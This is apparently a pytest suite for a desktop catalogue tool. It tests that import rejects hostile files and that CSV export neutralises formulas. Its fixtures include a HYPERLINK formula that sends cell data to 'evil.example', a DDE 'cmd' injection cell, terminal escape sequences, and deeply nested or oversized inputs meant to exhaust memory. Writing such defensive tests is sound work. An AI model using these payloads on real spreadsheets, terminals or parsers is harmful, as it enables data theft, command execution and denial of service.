"""Hostile and broken files (issue 17, points 5, 6, 8, 9, and issue 13's spreadsheet): each is
refused in one line naming the record, with bounded memory and time, and nothing changed."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from ssc_desktop.cli import main
from ssc_desktop.console import printable
from ssc_desktop.domain.model import MAX_REVISION, Solution
from ssc_desktop.interchange import ImportFileError, read_catalogue_file, reader
from ssc_desktop.interchange.csvformat import guard_cell, unguard_cell
from ssc_desktop.interchange.writer import render
from ssc_desktop.storage.database import migrate
from ssc_desktop.storage.repository import CatalogueStore, RevisionLimitError
from tests.core.test_interchange import database_digest
from tests.support.cli import run_in
from tests.support.records import make_solution, random_solutions

FORMULAS = ["=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "'=x", "''", "'plain", "=", "-"]


def _document(records: list[Any]) -> str:
    return json.dumps(
        {"format": "ssc-desktop-catalogue", "format_version": 1, "solutions": records}
    )


def _import(data_dir: Path, path: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    capsys.readouterr()
    code = main(["--data-dir", str(data_dir), "import", str(path)])
    return code, capsys.readouterr().err


# -- 5: CSV formula injection ---------------------------------------------------------------------
@pytest.mark.parametrize("text", FORMULAS)
def test_guard_is_undone_exactly(text: str) -> None:
    guarded = guard_cell(text)
    assert guarded[:1] not in set("=+-@\t\r")
    assert unguard_cell(guarded) == text


def test_csv_export_neutralises_formulas_and_reads_them_back(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    planted = make_solution(
        title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        subtitle="+cmd|' /C calc'!A0",
        summary="-2+3",
        challenge="\t=1+1",
        solution="\r@SUM(1)",
        results="'=already quoted",
        keywords=["@risk", "plain"],
        funding_mechanism="'plain apostrophe",
    )
    source = tmp_path / "source.json"
    source.write_text(render([planted], "json"), encoding="utf-8")
    first, second = tmp_path / "a", tmp_path / "b"
    assert main(["--data-dir", str(first), "import", str(source)]) == 0
    one, two = tmp_path / "one.csv", tmp_path / "two.csv"
    assert main(["--data-dir", str(first), "export", "--format", "csv", "-o", str(one)]) == 0
    rows = list(csv.reader(io.StringIO(one.read_text(encoding="utf-8-sig"), newline="")))
    for row in rows:
        for cell in row:
            assert cell[:1] not in set("=+-@\t\r"), cell
    row = next(r for r in rows if planted.id in r)
    assert "'=HYPERLINK(" in row[rows[0].index("title")]
    assert row[rows[0].index("results")] == "''=already quoted"
    assert row[rows[0].index("funding_mechanism")] == "'plain apostrophe"  # left alone
    assert main(["--data-dir", str(second), "import", str(one)]) == 0
    assert main(["--data-dir", str(second), "export", "--format", "csv", "-o", str(two)]) == 0
    assert one.read_bytes() == two.read_bytes()
    assert planted in read_catalogue_file(one)
    capsys.readouterr()


# -- 6: terminal escapes --------------------------------------------------------------------------
def test_printable_escapes_every_control() -> None:
    nasty = "a\x1b]0;owned\x07b\x1b[2Jc\rd\x9be\u202ef\nz"
    shown = printable(nasty)
    assert shown == "a\\x1b]0;owned\\x07b\\x1b[2Jc\\rd\\x9be\\u202ef\\nz"
    assert printable("é ñ 中文 tab-free") == "é ñ 中文 tab-free"
    assert printable("one\ntwo", keep_newlines=True) == "one\ntwo"


def test_import_message_escapes_terminal_sequences(tmp_path: Path) -> None:
    record = random_solutions(1)[0].to_json_dict()
    record["title"] = "\x1b]0;pwned\x07\x1b[2J\x1b[31mRED"  # invalid (control characters)
    bad = tmp_path / "bad\x1b[2J.json"
    bad.write_text(_document([record]), encoding="utf-8")
    header = tmp_path / "bad.csv"
    header.write_text("id,ti\x1b[2Jtle\r\n", encoding="utf-8")
    for path in (bad, header):
        result = run_in(tmp_path / "data", "import", str(path))
        assert result.returncode == 1
        assert "\x1b" not in result.stderr and "\x07" not in result.stderr, result.stderr
        assert "\\x1b" in result.stderr
        assert result.stderr.count("\n") == 1 or "  - " in result.stderr
    assert "record 1" in run_in(tmp_path / "data", "import", str(bad)).stderr


# -- 8: bad values name the record and the field ----------------------------------------------
def _bad_value_cases() -> dict[str, tuple[str, dict[str, Any] | list[Any], list[str]]]:
    return {
        "deep nesting": ("countries", "NESTED", ["record 2", "nested too deeply"]),
        "5000-digit number": ("revision", "DIGITS", ["record 2", "field revision"]),
        "revision 2^66": ("revision", 2**66, ["record 2", "field revision"]),
        "revision 2^63-1": ("revision", 2**63 - 1, ["record 2", "field revision"]),
        "timestamp out of range": (
            "created_at",
            "0001-01-01T00:00:00+01:00",
            ["record 2", "field created_at", "out of range"],
        ),
        "timestamp year 9999 west": (
            "updated_at",
            "9999-12-31T23:59:59-05:00",
            ["record 2", "field updated_at", "out of range"],
        ),
        "list for an object": (
            "countries",
            [["KEN", "provider"]],
            ["record 2", "field countries[0]", "valid dictionary"],
        ),
        "list for a title": ("title", [[["x"]]], ["record 2", "field title"]),
    }


@pytest.mark.parametrize("case", sorted(_bad_value_cases()))
def test_bad_values_name_record_and_field(
    case: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    field, value, expected = _bad_value_cases()[case]
    records = [s.to_json_dict() for s in random_solutions(3)]
    records[1][field] = 0 if value in ("DIGITS", "NESTED") else value
    text = _document(records)
    if value == "DIGITS":
        text = text.replace('"revision": 0', '"revision": ' + "9" * 5000, 1)
    if value == "NESTED":  # 100,000 levels (json.dumps itself could not write them)
        text = text.replace('"countries": 0', '"countries": ' + "[" * 100_000 + "]" * 100_000)
    data_dir = tmp_path / "data"
    assert main(["--data-dir", str(data_dir), "stats"]) == 0
    before = database_digest(data_dir)
    bad = tmp_path / "bad.json"
    bad.write_text(text, encoding="utf-8")
    code, err = _import(data_dir, bad, capsys)
    assert code == 1
    assert err.startswith("ssc-desktop: error: cannot import"), err
    assert "unexpected" not in err and "Traceback" not in err
    for words in expected:
        assert words in err, (words, err)
    assert len(err) < 2000
    assert database_digest(data_dir) == before


def test_whole_record_nested_or_a_list(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    good = [s.to_json_dict() for s in random_solutions(2)]
    deep = "[" * 200_000 + "]" * 200_000
    for body, expected in (
        (_document(good)[:-2] + ", " + deep + "]}", "record 3: the JSON is nested too deeply"),
        (_document([good[0], [good[1]]]), "record 2: a record must be an object"),
        ("[" * 200_000, "nested too deeply"),
    ):
        bad = tmp_path / "bad.json"
        bad.write_text(body, encoding="utf-8")
        code, err = _import(tmp_path / "data", bad, capsys)
        assert code == 1 and expected in err, err


def test_sync_and_bundle_validation_refuses_the_same_values() -> None:
    """Bundles and sync pages go through ``Solution.model_validate`` too: a pydantic
    ValidationError (which they report by record and field), never OverflowError."""
    base = random_solutions(1)[0].to_json_dict()
    for update in (
        {"revision": 2**66},
        {"created_at": "0001-01-01T00:00:00+01:00"},
        {"updated_at": "9999-12-31T23:59:59-05:00"},
        {"countries": [["KEN"]]},
    ):
        with pytest.raises(ValidationError):
            Solution.model_validate({**base, **update})


def test_revision_is_capped_and_the_next_edit_is_refused(tmp_path: Path) -> None:
    migrate(tmp_path / "c.sqlite3")
    store = CatalogueStore(tmp_path / "c.sqlite3")
    try:
        top = make_solution(revision=MAX_REVISION)
        store.import_solutions([top])
        with pytest.raises(ValidationError, match="revision"):
            store.save_local(top.model_copy(update={"title": "edited"}))
        with pytest.raises(RevisionLimitError):
            store.delete_local(top.id)
        assert store.get(top.id) == top
    finally:
        store.close()


# -- 9: bounded reading ---------------------------------------------------------------------------
posix_only = pytest.mark.skipif(os.name != "posix", reason="FIFOs and /dev/zero are POSIX")


@posix_only
def test_dev_zero_and_a_fifo_are_refused_at_once(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.json"
    os.mkfifo(fifo)
    for path, words in (("/dev/zero", "this is a device"), (str(fifo), "pipe (FIFO)")):
        started = time.monotonic()
        result = run_in(tmp_path / "data", "import", path)
        assert result.returncode == 1
        assert words in result.stderr, result.stderr
        assert time.monotonic() - started < 20
    assert "a folder" in run_in(tmp_path / "data", "import", str(tmp_path)).stderr


def test_bytes_are_counted_not_taken_from_stat(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(reader, "MAX_FILE_BYTES", 4096)
    for fmt in ("json", "csv"):
        big = tmp_path / f"big.{fmt}"
        big.write_text(render(random_solutions(5), fmt), encoding="utf-8")
        with pytest.raises(ImportFileError, match="larger than"):
            read_catalogue_file(big)
    proc = Path("/proc/self/maps")  # a regular file whose stat size is 0, yet holds kilobytes
    if proc.exists() and proc.stat().st_size == 0:
        monkeypatch.setattr(reader, "MAX_FILE_BYTES", 64)
        with pytest.raises(ImportFileError, match="larger than"):
            read_catalogue_file(proc, "json")


def test_records_per_file_are_bounded(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reader, "MAX_RECORDS", 3)
    for fmt in ("json", "csv"):
        path = tmp_path / f"four.{fmt}"
        path.write_text(render(random_solutions(4), fmt), encoding="utf-8")
        with pytest.raises(ImportFileError, match="more than 3 records") as info:
            read_catalogue_file(path)
        assert info.value.problems[0].record == 4


# The child's own peak: VmHWM (ru_maxrss keeps the forking parent's peak across exec on Linux,
# so a long pytest run would be measured instead of the import).
MEASURE = """
import sys
from ssc_desktop.cli import main
code = main(["--data-dir", sys.argv[1], "import", sys.argv[2]])
peak = next(int(line.split()[1]) for line in open("/proc/self/status") if line.startswith("VmHWM:"))
print(code, peak)
"""


@pytest.mark.slow
@pytest.mark.skipif(sys.platform != "linux", reason="VmHWM in /proc is Linux's")
@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_a_million_records_are_refused_with_bounded_memory(tmp_path: Path, fmt: str) -> None:
    """A million tiny records (the attack took 2.5 GB): refused at the limit, memory small."""
    path = tmp_path / f"million.{fmt}"
    one = make_solution(title="x")
    with path.open("w", encoding="utf-8", newline="") as out:
        if fmt == "json":
            out.write('{"format":"ssc-desktop-catalogue","format_version":1,"solutions":[')
            out.write(",".join(['{"title":"x"}'] * 1_000_000) + "]}")
        else:
            header, row = render([one], "csv").split("\r\n")[:2]
            out.write(header + "\r\n")
            cells = row.split(",", 1)
            for number in range(1_000_000):
                out.write(f"{number:08d}-0000-4000-8000-000000000000,{cells[1]}\r\n")
    data_dir = tmp_path / "data"
    assert run_in(data_dir, "stats").returncode == 0
    result = subprocess.run(
        [sys.executable, "-c", MEASURE, str(data_dir), str(path)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    code, peak_kib = (int(v) for v in result.stdout.split())
    assert code == 1
    assert f"more than {reader.MAX_RECORDS:,} records" in result.stderr, result.stderr
    assert peak_kib < 400 * 1024, f"peak {peak_kib // 1024} MiB"  # measured: about 180 MiB


# -- issue 13: spreadsheets and other files named ----------------------------------------------
@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        # issue 14: spreadsheets are read (contribution templates); one that cannot be read
        # safely says how to save it (deliberately changed from "not read yet")
        ("sheet.xlsx", b"PK\x03\x04" + b"\x00" * 64, "save it as Excel Workbook (.xlsx)"),
        ("sheet.json", b"PK\x03\x04" + b"\x00" * 64, "save it as Excel Workbook (.xlsx)"),
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, "or as CSV UTF-8"),
        ("hub.sscbundle", b"SSC-BUNDLE\n" + b"\x00" * 64, "bundle import"),
        ("notes.txt", b"hello, world\n", "JSON (.json) or CSV (.csv)"),
        ("empty.json", b"", "the file is empty"),
        ("text.json", b"hello", "JSON (.json) or CSV (.csv)"),
    ],
)
def test_other_files_are_named(
    name: str, content: bytes, expected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / name
    path.write_bytes(content)
    code, err = _import(tmp_path / "data", path, capsys)
    assert code == 1
    assert expected in err, err
    assert "cut short" not in err
    assert err.count("\n") == 1
